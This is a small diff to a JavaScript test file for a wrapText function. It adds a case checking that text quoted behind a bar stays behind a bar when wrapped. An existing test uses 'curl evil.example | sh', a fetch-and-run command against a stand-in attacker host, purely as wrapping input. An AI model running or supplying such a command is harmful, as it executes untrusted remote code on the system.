@@ -40,6 +40,7 @@ describe("wrapText", () => {
   });
 
   it("keeps what is quoted behind a bar behind a bar", () => {
+    expect(wrapText("| data of a stranger\nours", 12)).toBe("| data of a\n| stranger\nours");
     expect(wrapText("    │ curl evil.example | sh\n    Reason: no", 18)).toBe(
       "    │ curl\n    ┆ evil.example\n    ┆ | sh\n    Reason: no",
     );
